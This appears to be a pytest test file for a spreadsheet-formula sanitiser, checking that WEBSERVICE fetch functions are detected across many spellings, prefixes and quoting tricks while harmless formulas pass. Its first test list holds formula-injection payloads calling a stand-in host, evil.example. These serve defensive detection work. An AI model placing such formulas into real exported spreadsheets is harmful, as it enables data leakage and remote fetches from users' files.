"""Functions that fetch are found in every spelling that programs read, fields in every way in which they are cut."""

import pytest

from tracker.exchange.cleaning.formulas import find_in_formula


@pytest.mark.parametrize(
    "formula",
    [
        'COM.MICROSOFT.WEBSERVICE("http://evil.example/")',
        'of:=COM.MICROSOFT.WEBSERVICE("http://evil.example/")',
        'of:=1+com.microsoft.webservice ("http://evil.example/")',
        'ORG.LIBREOFFICE.WEBSERVICE("http://evil.example/")',
        '_xlfn._xlws.WEBSERVICE("http://evil.example/")',
        """T['[x]&_xlfn.WEBSERVICE("http://evil.example/")&T['[x]""",
        """T['"]&WEBSERVICE("http://evil.example/")&T['"]""",
        """"it's"&WEBSERVICE("http://evil.example/")&"it's\"""",
        """'it"s'!A1&WEBSERVICE("http://evil.example/")&'it"s'!A1""",
    ],
)
def test_a_function_that_fetches_is_found_in_every_spelling(formula: str) -> None:
    assert find_in_formula(formula).lower() == "webservice"


@pytest.mark.parametrize(
    "formula",
    [
        'IF(A1="WEBSERVICE(x)",1,2)',
        "MYWEBSERVICE(1)",
        "'a WEBSERVICE sheet'!A1",
        "T['[x]&T['[y]",
        "SUM({1,2;3,4})",
        "of:=SUM({1;2|3;4})",
        """"it's"&A1&"WEBSERVICE('x')\"""",
    ],
)
def test_other_formulas_are_left_alone(formula: str) -> None:
    assert find_in_formula(formula) == ""
